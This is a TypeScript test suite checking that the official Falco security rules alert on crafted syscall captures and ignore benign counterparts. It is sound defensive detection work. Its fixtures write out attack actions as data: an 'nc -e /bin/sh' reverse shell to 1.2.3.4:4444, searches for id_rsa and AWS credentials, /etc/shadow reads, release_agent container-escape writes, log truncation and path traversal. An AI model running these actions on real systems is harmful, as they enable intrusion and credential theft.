import type { Ruleset } from '@sysray/falco-rules';
import type { ScapGroupInfo, ScapThreadInfo, ScapUserInfo } from '@sysray/pcapng/scap';
import { beforeAll, describe, expect, it } from 'vitest';
import { type EventContext, loadSyscallRules, runRulesOnCapture } from '../../src/index.js';
import { type CraftedEvent, craftCapture, nulList, plThread, testdata } from '../helpers.js';

const RULES = testdata('falco-rules/falco_rules.yaml');
const CID = 'c0ffee1234567890c0ffee1234567890c0ffee1234567890c0ffee1234567890';
const DOCKER_CG = [`cpuset=/docker/${CID}`, `memory=/docker/${CID}`];

/** PPM encodings used below. */
const O_RDONLY = 1;
const O_WRONLY = 2;
const O_APPEND = 8;
const O_TRUNC = 256;
const EXE_UPPER_LAYER = 2;
const EXE_FROM_MEMFD = 4;
const CAP_DAC_OVERRIDE = 1n << 1n;
const CAP_SYS_MODULE = 1n << 16n;
const CAP_SYS_ADMIN = 1n << 21n;

let ruleset: Ruleset<EventContext>;
beforeAll(() => {
  ruleset = loadSyscallRules([RULES]).ruleset!;
});

/** Alerts as `rule #eventIndex` (index into the crafted event list), by matching alert times. */
async function firing(
  threads: ScapThreadInfo[],
  events: CraftedEvent[],
  users?: { users: ScapUserInfo[]; groups: ScapGroupInfo[] },
): Promise<string[]> {
  const out: string[] = [];
  const bytes = craftCapture(threads, events, users);
  for await (const a of runRulesOnCapture(bytes, ruleset, { ruleMatching: 'all' })) {
    const ns = BigInt(Date.parse(`${a.time.slice(0, 19)}Z`)) * 1_000_000n + BigInt(a.time.slice(20, 29));
    const idx = Number((ns - 1_704_067_200_000_000_000n) / 1000n) - 1;
    out.push(`${a.rule} #${idx}`);
  }
  return out;
}

/** A successful execve exit of `tid` (the new program), with the given details. */
function exec(
  tid: number,
  o: {
    exe: string;
    args?: string[];
    comm?: string;
    ptid?: number;
    cwd?: string;
    cgroups?: string[];
    tty?: number;
    flags?: number;
    uid?: number;
    capEffective?: bigint;
  },
): CraftedEvent {
  const comm = o.comm ?? o.exe.slice(o.exe.lastIndexOf('/') + 1);
  return {
    name: 'execve',
    tid,
    params: {
      res: 0,
      exe: o.exe,
      args: nulList(o.args ?? []),
      tid,
      pid: tid,
      ptid: o.ptid ?? 1,
      cwd: o.cwd ?? '/root',
      fdlimit: 1024,
      comm,
      cgroups: nulList(o.cgroups ?? []),
      env: nulList(['PATH=/usr/bin']),
      tty: o.tty ?? 0,
      vpgid: tid,
      loginuid: 0,
      flags: o.flags ?? 0,
      cap_inheritable: 0n,
      cap_permitted: o.capEffective ?? 0n,
      cap_effective: o.capEffective ?? 0n,
      uid: o.uid ?? 0,
      trusted_exepath: o.exe.startsWith('/') ? o.exe : '',
      pgid: tid,
      gid: 0,
    },
  };
}

function openat(tid: number, fd: number, name: string, flags: number): CraftedEvent {
  return { name: 'openat', tid, params: { fd, dirfd: -100, name, flags, mode: 0, dev: 0, ino: 1 } };
}

/** A container process (tid) whose parent is containerd-shim (tid 50). */
function containerThreads(tid: number, comm: string, extra: Partial<ScapThreadInfo> = {}): ScapThreadInfo[] {
  return [
    plThread({
      tid: 50,
      comm: 'containerd-shim',
      exe: '/usr/bin/containerd-shim',
      exepath: '/usr/bin/containerd-shim',
    }),
    plThread({
      tid,
      ptid: 50,
      comm,
      exe: `/bin/${comm}`,
      exepath: `/bin/${comm}`,
      cgroups: DOCKER_CG,
      ...extra,
    }),
  ];
}

function containerEvent(privileged: boolean, repo = 'docker.io/library/alpine'): CraftedEvent {
  const json = JSON.stringify({
    container: {
      id: CID,
      type: 0,
      name: 'test',
      image: `${repo}:latest`,
      imagerepo: repo,
      imagetag: 'latest',
      privileged,
      Mounts: [],
      labels: {},
    },
  });
  return { name: 'container', dir: '>', tid: -1, params: { json } };
}

describe('official Falco rules fire exactly where they should on crafted captures', () => {
  it('Read sensitive file untrusted: an untrusted program opening /etc/shadow, not /etc/hosts', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'python3', exe: 'python3', exepath: '/usr/bin/python3' })],
      [openat(100, 3, '/etc/hosts', O_RDONLY), openat(100, 4, '/etc/shadow', O_RDONLY)],
    );
    expect(got).toEqual(['Read sensitive file untrusted #1']);
  });

  it('Read sensitive file trusted after startup: nginx reading /etc/shadow 10 s after it started, not at startup', async () => {
    const T = 1_704_067_200_000_000_000n;
    const got = await firing(
      [plThread({ tid: 90, comm: 'nginx', exe: 'nginx', exepath: '/usr/sbin/nginx' })],
      [
        {
          name: 'clone',
          tid: 90,
          ts: T + 1000n,
          params: {
            res: 91,
            exe: 'nginx',
            args: nulList([]),
            tid: 90,
            pid: 90,
            ptid: 1,
            cwd: '/',
            comm: 'nginx',
            flags: 0,
            uid: 0,
            gid: 0,
          },
        },
        openat(91, 3, '/etc/shadow', O_RDONLY), // at startup
        { ...openat(91, 4, '/etc/shadow', O_RDONLY), ts: T + 10_000_003_000n },
      ],
    );
    // Event #2 is 10 s later: its index is computed from its timestamp.
    expect(got).toEqual([
      'Read sensitive file untrusted #1',
      'Read sensitive file trusted after startup #10000002',
      'Read sensitive file untrusted #10000002',
    ]);
  });

  it('Run shell untrusted: nginx spawning sh, not bash spawning sh', async () => {
    const got = await firing(
      [
        plThread({ tid: 90, comm: 'nginx', exe: 'nginx', exepath: '/usr/sbin/nginx' }),
        plThread({ tid: 91, ptid: 90, comm: 'nginx', exe: 'nginx', exepath: '/usr/sbin/nginx' }),
        plThread({ tid: 80, comm: 'bash' }),
        plThread({ tid: 81, ptid: 80, comm: 'bash' }),
      ],
      [
        exec(91, { exe: '/bin/sh', args: ['-c', 'id'], ptid: 90 }),
        exec(81, { exe: '/bin/sh', args: ['-c', 'id'], ptid: 80 }),
      ],
    );
    expect(got).toEqual(['Run shell untrusted #0']);
  });

  it('Terminal shell in container: a shell with a tty in a container, not without a tty or on the host', async () => {
    const got = await firing(
      [
        ...containerThreads(100, 'runc'),
        ...containerThreads(101, 'runc'),
        plThread({ tid: 102, ptid: 50, comm: 'runc' }),
      ],
      [
        exec(100, { exe: '/bin/sh', ptid: 50, cgroups: DOCKER_CG, tty: 34816 }),
        exec(101, { exe: '/bin/sh', ptid: 50, cgroups: DOCKER_CG, tty: 0 }),
        exec(102, { exe: '/bin/sh', ptid: 50, tty: 34816 }),
      ],
    );
    expect(got).toEqual(['Terminal shell in container #0']);
  });

  it('Clear Log Activities: truncating /var/log/syslog, not appending to it', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'python3' })],
      [
        openat(100, 3, '/var/log/syslog', O_WRONLY | O_APPEND),
        openat(100, 4, '/var/log/syslog', O_WRONLY | O_TRUNC),
      ],
    );
    expect(got).toEqual(['Clear Log Activities #1']);
  });

  it('Create Symlink / Hardlink Over Sensitive Files: links to /etc/shadow, not to /tmp files', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'ln' })],
      [
        {
          name: 'symlinkat',
          tid: 100,
          params: { res: 0, target: '/tmp/a', linkdirfd: -100, linkpath: '/tmp/l1' },
        },
        {
          name: 'symlinkat',
          tid: 100,
          params: { res: 0, target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/l2' },
        },
        {
          name: 'linkat',
          tid: 100,
          params: { res: 0, olddir: -100, oldpath: '/tmp/a', newdir: -100, newpath: '/tmp/h1', flags: 0 },
        },
        {
          name: 'linkat',
          tid: 100,
          params: {
            res: 0,
            olddir: -100,
            oldpath: '/etc/shadow',
            newdir: -100,
            newpath: '/tmp/h2',
            flags: 0,
          },
        },
      ],
    );
    expect(got).toEqual([
      'Create Symlink Over Sensitive Files #1',
      'Create Hardlink Over Sensitive Files #3',
    ]);
  });

  it('Packet socket created in container: AF_PACKET in a container, not AF_INET, not on the host', async () => {
    const got = await firing(
      [...containerThreads(100, 'python3'), plThread({ tid: 200, comm: 'python3' })],
      [
        { name: 'socket', tid: 100, params: { fd: 3, domain: 2, type: 1, proto: 0 } },
        { name: 'socket', tid: 100, params: { fd: 4, domain: 17, type: 3, proto: 0 } },
        { name: 'socket', tid: 200, params: { fd: 4, domain: 17, type: 3, proto: 0 } },
      ],
    );
    expect(got).toEqual(['Packet socket created in container #1']);
  });

  it('Redirect STDOUT/STDIN to Network Connection in Container: dup2 of a socket onto stdin, not of a file', async () => {
    const got = await firing(
      [...containerThreads(100, 'python3')],
      [
        { name: 'socket', tid: 100, params: { fd: 3, domain: 2, type: 1, proto: 0 } },
        {
          name: 'connect',
          tid: 100,
          params: {
            res: 0,
            tuple: { family: 'inet', sip: '172.17.0.2', sport: 40000, dip: '1.2.3.4', dport: 4444 },
            fd: 3,
          },
        },
        openat(100, 5, '/tmp/f', O_RDONLY),
        { name: 'dup2', tid: 100, params: { res: 0, oldfd: 5, newfd: 0 } },
        { name: 'dup2', tid: 100, params: { res: 0, oldfd: 3, newfd: 0 } },
      ],
    );
    expect(got).toEqual(['Redirect STDOUT/STDIN to Network Connection in Container #4']);
  });

  it('Linux Kernel Module Injection Detected: finit_module with CAP_SYS_MODULE in a container, not on the host', async () => {
    const got = await firing(
      [
        ...containerThreads(100, 'insmod', { capEffective: CAP_SYS_MODULE }),
        plThread({ tid: 200, comm: 'insmod', capEffective: CAP_SYS_MODULE }),
      ],
      [
        { name: 'finit_module', tid: 200, params: { res: 0, fd: 3, uargs: '', flags: 0 } },
        { name: 'finit_module', tid: 100, params: { res: 0, fd: 3, uargs: '', flags: 0 } },
      ],
    );
    expect(got).toEqual(['Linux Kernel Module Injection Detected #1']);
  });

  it('Detect release_agent File Container Escapes: writing release_agent with CAP_SYS_ADMIN, not without it', async () => {
    const got = await firing(
      [
        ...containerThreads(100, 'sh', { capEffective: CAP_SYS_ADMIN | CAP_DAC_OVERRIDE }),
        ...containerThreads(101, 'sh', { capEffective: CAP_DAC_OVERRIDE }),
      ],
      [
        openat(101, 3, '/sys/fs/cgroup/x/release_agent', O_WRONLY),
        openat(100, 3, '/sys/fs/cgroup/x/release_agent', O_WRONLY),
      ],
    );
    expect(got).toEqual(['Detect release_agent File Container Escapes #1']);
  });

  it('PTRACE attached to process / anti-debug attempt: ATTACH and TRACEME, not PEEKDATA', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'evil' })],
      [
        { name: 'ptrace', tid: 100, params: { res: 0, request: 3, pid: 200 } },
        { name: 'ptrace', tid: 100, params: { res: 0, request: 11, pid: 200 } },
        { name: 'ptrace', tid: 100, params: { res: 0, request: 1, pid: 0 } },
      ],
    );
    expect(got).toEqual(['PTRACE attached to process #1', 'PTRACE anti-debug attempt #2']);
  });

  it('Execution from /dev/shm: a program in /dev/shm, not one in /usr/bin', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'bash' })],
      [exec(100, { exe: '/usr/bin/id' }), exec(100, { exe: '/dev/shm/x' })],
    );
    expect(got).toEqual(['Execution from /dev/shm #1']);
  });

  it('Drop and execute new binary in container: an upper-layer executable in a container, not a base-image one', async () => {
    const got = await firing(
      [...containerThreads(100, 'sh')],
      [
        exec(100, { exe: '/bin/ls', ptid: 50, cgroups: DOCKER_CG }),
        exec(100, { exe: '/tmp/dropped', ptid: 50, cgroups: DOCKER_CG, flags: EXE_UPPER_LAYER }),
      ],
    );
    expect(got).toEqual(['Drop and execute new binary in container #1']);
  });

  it('Fileless execution via memfd_create: an executable from a memfd, not from disk', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'bash' })],
      [exec(100, { exe: '/usr/bin/id' }), exec(100, { exe: 'memfd:x', comm: 'x', flags: EXE_FROM_MEMFD })],
    );
    expect(got).toEqual(['Fileless execution via memfd_create #1']);
  });

  it('Search Private Keys or Passwords / Find AWS Credentials: find for id_rsa and .aws/credentials, not for other names', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'bash' })],
      [
        exec(100, { exe: '/usr/bin/find', args: ['/', '-name', 'notes.txt'] }),
        exec(100, { exe: '/usr/bin/find', args: ['/', '-name', 'id_rsa'] }),
        exec(100, { exe: '/usr/bin/find', args: ['/', '-path', '*/.aws/credentials'] }),
      ],
    );
    expect(got).toEqual(['Search Private Keys or Passwords #1', 'Find AWS Credentials #2']);
  });

  it('Netcat Remote Code Execution in Container: nc -e in a container, not nc -l', async () => {
    const got = await firing(
      [...containerThreads(100, 'sh')],
      [
        exec(100, { exe: '/usr/bin/nc', args: ['-l', '4444'], ptid: 50, cgroups: DOCKER_CG }),
        exec(100, {
          exe: '/usr/bin/nc',
          args: ['-e', '/bin/sh', '1.2.3.4', '4444'],
          ptid: 50,
          cgroups: DOCKER_CG,
        }),
      ],
    );
    expect(got).toEqual(['Netcat Remote Code Execution in Container #1']);
  });

  it('Disallowed SSH Connection Non Standard Port: ssh to port 443 of a public address, not to port 22', async () => {
    const tuple = (dport: number) => ({
      family: 'inet' as const,
      sip: '10.0.0.5',
      sport: 50000,
      dip: '8.8.8.8',
      dport,
    });
    const got = await firing(
      [plThread({ tid: 100, comm: 'ssh', exe: '/usr/bin/ssh', exepath: '/usr/bin/ssh' })],
      [
        { name: 'socket', tid: 100, params: { fd: 3, domain: 2, type: 1, proto: 6 } },
        { name: 'connect', tid: 100, params: { res: 0, tuple: tuple(22), fd: 3 } },
        { name: 'socket', tid: 100, params: { fd: 4, domain: 2, type: 1, proto: 6 } },
        { name: 'connect', tid: 100, params: { res: -115, tuple: tuple(443), fd: 4 } },
      ],
    );
    expect(got).toEqual(['Disallowed SSH Connection Non Standard Port #3']);
  });

  it('System user interactive: www-data running a program under sshd, not root', async () => {
    const got = await firing(
      [
        plThread({ tid: 70, comm: 'sshd', exe: '/usr/sbin/sshd', exepath: '/usr/sbin/sshd' }),
        plThread({ tid: 100, ptid: 70, comm: 'bash', uid: 33 }),
        plThread({ tid: 101, ptid: 70, comm: 'bash', uid: 0 }),
      ],
      [exec(101, { exe: '/bin/ls', ptid: 70, uid: 0 }), exec(100, { exe: '/bin/ls', ptid: 70, uid: 33 })],
      {
        users: [
          { uid: 0, gid: 0, name: 'root', homedir: '/root', shell: '/bin/bash' },
          { uid: 33, gid: 33, name: 'www-data', homedir: '/var/www', shell: '/usr/sbin/nologin' },
        ],
        groups: [{ gid: 0, name: 'root' }],
      },
    );
    expect(got).toEqual(['System user interactive #1']);
  });

  it('Remove Bulk Data from Disk: shred, not rm', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'bash' })],
      [exec(100, { exe: '/bin/rm', args: ['x'] }), exec(100, { exe: '/usr/bin/shred', args: ['x'] })],
    );
    expect(got).toEqual(['Remove Bulk Data from Disk #1']);
  });

  it('Debugfs Launched in Privileged Container: debugfs in a privileged container, not in an unprivileged one', async () => {
    const unpriv = await firing(
      [...containerThreads(100, 'sh')],
      [containerEvent(false), exec(100, { exe: '/sbin/debugfs', ptid: 50, cgroups: DOCKER_CG })],
    );
    expect(unpriv).toEqual([]);
    const priv = await firing(
      [...containerThreads(100, 'sh')],
      [containerEvent(true), exec(100, { exe: '/sbin/debugfs', ptid: 50, cgroups: DOCKER_CG })],
    );
    expect(priv).toEqual(['Debugfs Launched in Privileged Container #1']);
  });

  it('Contact K8S API Server From Container cannot fire: fd.sip.name needs DNS names a capture does not hold', async () => {
    const got = await firing(
      [...containerThreads(100, 'curl')],
      [
        { name: 'socket', tid: 100, params: { fd: 3, domain: 2, type: 1, proto: 6 } },
        {
          name: 'connect',
          tid: 100,
          params: {
            res: 0,
            tuple: { family: 'inet', sip: '172.17.0.2', sport: 40000, dip: '10.96.0.1', dport: 443 },
            fd: 3,
          },
        },
      ],
    );
    expect(got).toEqual([]);
  });

  it('Directory traversal monitored file read: ../../etc/passwd, not /etc/passwd', async () => {
    const got = await firing(
      [plThread({ tid: 100, comm: 'python3', cwd: '/var/www/html/' })],
      [openat(100, 3, '/etc/passwd', O_RDONLY), openat(100, 4, '../../../etc/passwd', O_RDONLY)],
    );
    expect(got).toEqual(['Directory traversal monitored file read #1']);
  });
});
